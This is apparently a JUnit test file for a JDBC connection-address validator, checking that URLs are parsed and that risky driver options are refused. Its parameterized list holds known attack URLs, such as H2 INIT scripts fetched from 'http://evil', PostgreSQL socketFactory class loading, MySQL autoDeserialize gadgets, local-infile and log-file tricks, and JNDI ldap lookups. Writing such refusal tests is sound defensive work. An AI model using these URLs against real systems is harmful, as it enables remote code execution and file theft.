package org.bottega.data.source.jdbc;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.bottega.kernel.ProblemException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Nothing that makes a driver run code, read files or talk to others gets through.
class AddressTest {
    private static final Drivers DRIVERS = Drivers.bundled();
    @TempDir Path folder;

    private static String refusal(String url) {
        return assertThrows(ProblemException.class, () -> Address.parse(url, DRIVERS), url)
                .getMessage();
    }

    @Test
    void plainAddressesAreTakenApartAndPutTogether() {
        var address =
                Address.parse(
                        "jdbc:postgresql://db.example.org/my%20data?sslmode=require", DRIVERS);
        assertEquals("jdbc:postgresql://db.example.org:5432/my%20data", address.url());
        assertEquals(Map.of("sslmode", "require"), address.parameters());
        assertEquals("db.example.org:5432/my data", address.shown());
        assertEquals(
                "jdbc:mariadb://[::1]:3307/shop",
                Address.parse("jdbc:mysql://[::1]:3307/shop", DRIVERS).url());
        assertEquals(
                "jdbc:postgresql://localhost:5432/",
                Address.parse("JDBC:POSTGRESQL://localhost", DRIVERS).url());
    }

    @Test
    void filesHaveToBeThere() throws Exception {
        var file = Files.createFile(folder.resolve("a.mv.db"));
        var path = folder.resolve("a").toString();
        for (var url : List.of("jdbc:h2:" + path, "jdbc:h2:file:" + path, "jdbc:h2:" + file)) {
            assertEquals(
                    "jdbc:h2:file:"
                            + path
                            + ";IFEXISTS=TRUE;ACCESS_MODE_DATA=r;LAZY_QUERY_EXECUTION=1;TRACE_LEVEL_FILE=0",
                    Address.parse(url, DRIVERS).url());
        }
        assertTrue(refusal("jdbc:h2:" + folder.resolve("none")).contains("There is no such file"));
        assertTrue(refusal("jdbc:sqlite:" + folder.resolve("none")).contains("no such file"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // code that runs when the connection opens
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:FILE;INIT=CREATE ALIAS E AS 'void e(){}'",
                "jdbc:h2:FILE;init=select 1",
                "jdbc:h2:FILE;\\;INIT=select 1",
                "jdbc:h2:FILE;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM '/tmp/x.sql'",
                "jdbc:h2:FILE;TRACE_LEVEL_FILE=3",
                "jdbc:h2:FILE;DATABASE_EVENT_LISTENER='evil.Listener'",
                "jdbc:h2:FILE;JAVA_OBJECT_SERIALIZER='evil.Serializer'",
                "jdbc:h2:FILE;AUTHREALM=X",
                "jdbc:h2:FILE;AUTO_SERVER=TRUE",
                "jdbc:h2:FILE;FORBID_CREATION=FALSE",
                "jdbc:h2:FILE?INIT=select 1",
                "jdbc:h2:FILE#INIT=select 1",
                "jdbc:h2:tcp://evil/x",
                "jdbc:h2:ssl://evil/x",
                "jdbc:h2:zip:/tmp/a.zip!/x",
                "jdbc:h2:nio:FILE",
                "jdbc:h2:split:FILE",
                "jdbc:h2:classpath:x",
                "jdbc:h2:mem:",
                // classes that the driver loads, files it writes or reads
                "jdbc:postgresql://h/d?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
                "jdbc:postgresql://h/d?sslfactory=evil.Factory&sslfactoryarg=x",
                "jdbc:postgresql://h/d?SocketFactory=evil",
                "jdbc:postgresql://h/d?%73ocketFactory=evil",
                "jdbc:postgresql://h/d?sslmode=require&socketFactory=evil",
                "jdbc:postgresql://h/d?sslmode=require%26socketFactory=evil",
                "jdbc:postgresql://h/d?loggerLevel=TRACE&loggerFile=/home/x/.bashrc",
                "jdbc:postgresql://h/d?loggerFile=/tmp/x",
                "jdbc:postgresql://h/d?authenticationPluginClassName=evil",
                "jdbc:postgresql://h/d?sslpasswordcallback=evil",
                "jdbc:postgresql://h/d?sslhostnameverifier=evil",
                "jdbc:postgresql://h/d?xmlFactoryFactory=evil",
                "jdbc:postgresql://h/d?kerberosServerName=x",
                "jdbc:postgresql://h/d?jaasApplicationName=x",
                "jdbc:postgresql://h/d?options=-c%20statement_timeout=0",
                "jdbc:postgresql://h/d?service=x",
                "jdbc:postgresql:///?service=x",
                "jdbc:postgresql://h,evil/d",
                "jdbc:postgresql://h/d?readOnlyMode=ignore",
                "jdbc:postgresql://h/d?user=a&password=b",
                "jdbc:postgresql://u:p@h/d",
                "jdbc:mysql://h/d?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
                "jdbc:mysql://h/d?allowLoadLocalInfile=true",
                "jdbc:mysql://h/d?allowUrlInLocalInfile=true",
                "jdbc:mysql://h/d?allowLoadLocalInfileInPath=/",
                "jdbc:mariadb://h/d?allowLocalInfile=true",
                "jdbc:mariadb://h/d?allowMultiQueries=true",
                "jdbc:mariadb://h/d?sessionVariables=sql_mode=''",
                "jdbc:mariadb://h/d?initSql=select 1",
                "jdbc:mariadb://h/d?socketFactory=evil",
                "jdbc:mariadb://h/d?credentialType=evil",
                "jdbc:mariadb://h/d?serverSslCert=/etc/passwd",
                "jdbc:mariadb://h/d?keyStore=/x&keyStorePassword=y",
                "jdbc:mariadb://h/d?localSocket=/run/x",
                "jdbc:mariadb://h/d?pipe=x",
                "jdbc:mariadb://h/d?sslMode=disable&sslMode=trust",
                "jdbc:mysql://address=(host=h)(allowLoadLocalInfile=true)/d",
                "jdbc:mysql://(host=h,autoDeserialize=true)/d",
                "jdbc:mysql:loadbalance://h,evil/d",
                "jdbc:mariadb:replication://h,evil/d",
                "jdbc:mysql://h/d#?autoDeserialize=true",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite::memory:",
                "jdbc:sqlite:file:FILE?vfs=evil",
                "jdbc:sqlite:FILE?enable_load_extension=true",
                "jdbc:sqlite:FILE?open_mode=6",
                "jdbc:duckdb:",
                "jdbc:duckdb::memory:",
                "jdbc:duckdb:FILE;enable_external_access=true",
                "jdbc:duckdb:FILE;allow_unsigned_extensions=true",
                "jdbc:duckdb:http://evil/x.duckdb",
                "jdbc:duckdb:s3://evil/x.duckdb",
                // drivers that nobody bundled
                "jdbc:derby:x;create=true",
                "jdbc:db2://h/d:clientRerouteServerListJNDIName=ldap://evil;",
                "jdbc:oracle:thin:@h:1521:x",
                "jdbc:jcr:jndi:ldap://evil",
                "jdbc:hsqldb:file:x",
                "postgresql://h/d",
                "",
                "jdbc:"
            })
    void attacksAreRefused(String attack) throws Exception {
        var file = Files.createFile(folder.resolve("x.mv.db"));
        var url = attack.replace("FILE", file.toString());
        assertFalse(refusal(url).isBlank());
    }

    @Test
    void theRefusalNamesTheParameterAndWhatIsAllowed() {
        assertEquals(
                "PostgreSQL: The parameter \"socketFactory\" is not passed on. "
                        + "Leave it out; allowed are currentSchema, ssl, sslmode, targetServerType.",
                refusal("jdbc:postgresql://h/d?socketFactory=x"));
        assertEquals(
                "PostgreSQL: The parameter \"sslmode\" cannot be \"evil\". "
                        + "It has to match disable|allow|prefer|require|verify-ca|verify-full.",
                refusal("jdbc:postgresql://h/d?sslmode=evil"));
        assertEquals(
                "address: There is no driver for \"postgre\". Did you mean \"postgres\"?",
                refusal("jdbc:postgre://h/d"));
    }

    @Test
    void partsGivenOneByOneAreCheckedAsWell() {
        var postgres = DRIVERS.of("postgresql");
        for (var host : List.of("h/d?socketFactory=x", "h?x", "h,evil", "", "u@h", "h:1")) {
            assertThrows(
                    ProblemException.class,
                    () -> Address.server(postgres, host, 5432, "d", Map.of()),
                    host);
        }
        for (var database : List.of("d?socketFactory=x", "d;x", "d#x", "d&x", "a/b", "d\n")) {
            assertThrows(
                    ProblemException.class,
                    () -> Address.server(postgres, "h", 5432, database, Map.of()),
                    database);
        }
        assertThrows(
                ProblemException.class, () -> Address.server(postgres, "h", 70_000, "d", Map.of()));
        assertThrows(
                ProblemException.class,
                () -> Address.server(postgres, "h", 1, "d", Map.of("loggerFile", "x")));
        var h2 = DRIVERS.of("h2");
        assertThrows(
                ProblemException.class,
                () -> Address.file(h2, Files.createFile(folder.resolve("a;INIT=x.mv.db"))));
    }

    @Test
    void aQueryIsOneStatement() {
        assertEquals("select ';' -- ; x", OneStatement.of(" select ';' -- ; x\n ; ; "));
        assertEquals("select /* ; */ \"a;b\"", OneStatement.of("select /* ; */ \"a;b\""));
        assertThrows(ProblemException.class, () -> OneStatement.of("select 1; drop table x"));
        assertThrows(ProblemException.class, () -> OneStatement.of("select ''';'; commit"));
        assertThrows(ProblemException.class, () -> OneStatement.of(" ;"));
    }

    @Test
    void aPasswordIsNotPrinted() {
        assertEquals("Login[ada]", new Login("ada", "secret").toString());
    }
}
